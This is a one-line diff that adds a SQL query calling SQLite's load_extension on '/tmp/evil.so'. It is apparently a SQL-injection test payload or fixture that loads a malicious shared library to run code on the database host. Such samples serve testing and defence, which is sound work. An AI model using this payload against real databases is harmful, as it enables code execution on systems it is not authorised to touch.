@@ -1,0 +1,1 @@
+SELECT id, load_extension('/tmp/evil.so') AS name FROM customers
